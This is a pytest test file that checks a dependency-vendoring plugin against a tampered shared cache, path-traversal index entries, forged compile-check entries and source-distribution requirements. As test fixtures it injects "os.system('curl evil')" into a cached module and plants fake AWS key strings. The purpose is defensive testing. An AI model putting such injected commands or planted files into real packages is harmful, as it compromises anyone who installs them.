"""Hostile vendoring caches and requirements, through the package item as users run it.

The cache (``LEE_CACHE_DIR``) is a directory anyone — or a CI cache shared between
branches — can edit. Nothing in it is trusted: a cached tree must match its ``RECORD``
files, an index entry can only name the cache's own trees, the compile-check cache
serves vendored files only, and a cache that cannot be used is one line, not a
traceback. A requirement that would be built from source is refused: wheels only.
"""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import pytest
from wheels import make_wheel, use_wheels

APP = "import tinydep\n\n\ndef handler(event, context):\n    return tinydep.VALUE\n"
UTIL = "def helper():\n    return 42\n"
PYPROJECT = """
[tool.lee]
source = "src"
handler = "app.handler"
min_lines = 0
requirements = {requirements}

[tool.lee.function]
runtime = "python{major}.{minor}"
"""


@pytest.fixture
def cache(pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch) -> Path:
    wheels = pytester.path / "wheels"
    make_wheel(
        wheels,
        "tinydep",
        "1.0",
        files={"tinydep/__init__.py": "VALUE = 1\n", "tinydep/util.py": UTIL},
    )
    use_wheels(monkeypatch, wheels, pytester.path / "cache")
    return pytester.path / "cache"


def project(pytester: pytest.Pytester, requirements: str = '["tinydep"]') -> None:
    major, minor = sys.version_info[:2]
    pytester.makefile(
        ".toml",
        pyproject=PYPROJECT.format(requirements=requirements, major=major, minor=minor),
    )
    pytester.mkdir("src")
    (pytester.path / "src" / "app.py").write_text(APP)


def package_entry(pytester: pytest.Pytester, *, passed: bool = True) -> dict:
    out = pytester.path / "out.json"
    out.unlink(missing_ok=True)
    result = pytester.runpytest_inprocess("-p", "no:cacheprovider", "--lee-json", str(out))
    result.assert_outcomes(passed=1) if passed else result.assert_outcomes(failed=1)
    assert "Traceback" not in result.stdout.str()
    return json.loads(out.read_text())["package"][0]


def shipped(entry: dict) -> set[str]:
    return {name for name, _size, _zipped in entry["file_sizes"]}


def cached_tree(cache: Path) -> Path:
    (tree,) = (cache / "vendor" / "trees").iterdir()
    return tree


def edit(tree: Path) -> None:
    (tree / "tinydep" / "util.py").write_text(UTIL + "import os; os.system('curl evil')\n")


def add_secrets(tree: Path) -> None:
    (tree / ".env").write_text("AWS_SECRET_ACCESS_KEY=x\n")
    (tree / "tinydep" / "keys.py").write_text("KEY = 'AKIAABCDEFGHIJKLMNOP'\n")


def delete(tree: Path) -> None:
    (tree / "tinydep" / "util.py").unlink()


@pytest.mark.parametrize(
    ("damage", "line"),
    [
        (edit, "tinydep/util.py: content differs from its RECORD hash"),
        (add_secrets, ".env: not listed in any RECORD; tinydep/keys.py: not listed in any RECORD"),
        (delete, "tinydep/util.py: listed in a RECORD but missing from the tree"),
    ],
    ids=["edited", "extra-files", "deleted"],
)
def test_a_cached_tree_that_differs_from_its_record_is_refused_and_installed_again(
    pytester: pytest.Pytester, cache: Path, damage, line: str
):
    project(pytester)
    first = package_entry(pytester)
    tree = cached_tree(cache)
    damage(tree)
    entry = package_entry(pytester)
    note = (
        f"[tool.lee] requirements: the cached tree {tree} does not match its RECORD files "
        f"({line}); refused, installed again"
    )
    assert entry["warnings"][0] == note
    assert shipped(entry) == shipped(first)  # no .env, no keys.py, util.py back
    assert entry["code_sha256"] == first["code_sha256"]
    assert (tree / "tinydep" / "util.py").read_text() == UTIL  # pip's bytes, not the edit
    assert not (tree / ".env").exists()
    assert package_entry(pytester)["warnings"] == []  # the new tree is trusted again


@pytest.mark.parametrize("named", ["/tmp/elsewhere", "../../../elsewhere"])
def test_a_cache_index_naming_a_tree_outside_the_cache_is_ignored(
    pytester: pytest.Pytester, cache: Path, named: str
):
    project(pytester)
    first = package_entry(pytester)
    elsewhere = pytester.path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / ".lee-complete").write_text("")
    (elsewhere / "planted.py").write_text("KEY = 'AKIAABCDEFGHIJKLMNOP'\n")
    (index,) = (cache / "vendor" / "index").iterdir()
    target = str(elsewhere) if named.startswith("/") else named
    index.write_text(json.dumps({"tree": target}))
    entry = package_entry(pytester)
    assert entry["warnings"][0] == (
        f"{index}: names {target!r}, not a tree of the cache; ignored, installed again"
    )
    assert "planted.py" not in shipped(entry)
    assert entry["code_sha256"] == first["code_sha256"]
    assert json.loads(index.read_text())["tree"] == cached_tree(cache).name


def test_a_forged_compile_check_entry_never_lets_a_broken_project_file_pass(
    pytester: pytest.Pytester, cache: Path
):
    import hashlib

    from pytest_lee.package.compiled import cache_key

    project(pytester)
    broken = b"def handler(event, context):\n    return (\n"
    (pytester.path / "src" / "app.py").write_bytes(broken)
    forged = cache / "compile-check" / f"{cache_key(None)}.txt"
    forged.parent.mkdir(parents=True)
    forged.write_text(hashlib.sha256(broken).hexdigest() + "\n")
    result = pytester.runpytest_inprocess("-p", "no:cacheprovider")
    result.assert_outcomes(failed=1)
    result.stdout.fnmatch_lines(["*app.py:2: does not compile: SyntaxError: *"])


@pytest.mark.parametrize(
    "requirement", ["./mylib", "mylib @ file:///tmp/mylib", "dist/mylib-1.0.tar.gz", "-e ./mylib"]
)
def test_a_local_directory_or_sdist_requirement_is_refused_wheels_only(
    pytester: pytest.Pytester, cache: Path, requirement: str
):
    project(pytester, requirements=json.dumps([requirement]))
    mylib = pytester.path / "mylib"
    mylib.mkdir()
    (mylib / "setup.py").write_text(
        "open('BUILT', 'w').close()\nfrom setuptools import setup\nsetup()\n"
    )
    result = pytester.runpytest_inprocess("-p", "no:cacheprovider")
    result.assert_outcomes(failed=1)
    assert (
        f"  - {requirement}: a local directory or source distribution ([tool.lee] requirements); "
        "vendoring is wheels only: build a wheel for the runtime and name the .whl, or "
        "publish it to an index"
    ) in result.stdout.lines
    assert not (mylib / "BUILT").exists() and not (pytester.path / "BUILT").exists()
    assert not (cache / "vendor" / "trees").exists()  # pip never ran


def test_an_unusable_cache_directory_is_one_line_and_vendoring_goes_on(
    pytester: pytest.Pytester, cache: Path, monkeypatch: pytest.MonkeyPatch
):
    project(pytester)
    blocker = pytester.path / "not-a-directory"
    blocker.write_text("a file where the cache should be\n")
    monkeypatch.setenv("LEE_CACHE_DIR", str(blocker))
    entry = package_entry(pytester)
    assert entry["warnings"][0] == (
        f"{blocker}: cannot use the vendoring cache (Not a directory); vendored without a "
        "cache (set LEE_CACHE_DIR to a writable directory)"
    )
    assert {"tinydep/__init__.py", "tinydep/util.py"} <= shipped(entry)
    assert blocker.read_text() == "a file where the cache should be\n"
    shutil.rmtree(cache, ignore_errors=True)
